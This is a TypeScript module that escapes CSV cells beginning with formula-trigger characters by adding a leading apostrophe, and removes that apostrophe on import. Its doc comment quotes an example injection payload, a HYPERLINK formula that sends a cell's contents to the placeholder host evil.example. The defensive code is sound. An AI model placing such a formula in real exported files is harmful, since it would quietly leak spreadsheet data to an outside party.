/**
 * CSV cells a spreadsheet will not run. Excel, LibreOffice and Google Sheets treat a cell that
 * starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a title such as
 * `=HYPERLINK("http://evil.example/?"&A1)` in a council's HR file would run when opened (OWASP,
 * "CSV Injection"). Such a cell is written with a leading apostrophe — the spreadsheets' own
 * "this is text" mark, which they hide — and the reader takes one apostrophe off again.
 *
 * The mapping is a bijection, so `datasetFromCsv(datasetToCsv(d))` stays exact: a cell that
 * already starts with apostrophes before a trigger gets one more, and loses one on reading.
 */

/** Apostrophes, then a character that starts a formula. */
const TRIGGER = /^'*[=+\-@\t\r]/;
/** A cell written by `guardFormula`: one of its leading apostrophes is the guard. */
const GUARDED = /^'+[=+\-@\t\r]/;
/** A plain number (a spreadsheet reads `-5` as minus five, not as a formula). */
const NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** The cell as written to a file: a leading apostrophe when a spreadsheet would read it as a formula. */
export function guardFormula(cell: string): string {
  return TRIGGER.test(cell) && !NUMBER.test(cell) ? `'${cell}` : cell;
}

/** The cell as read from a file: the guard's apostrophe taken off. */
export function unguardFormula(cell: string): string {
  return GUARDED.test(cell) && !NUMBER.test(cell.slice(1)) ? cell.slice(1) : cell;
}
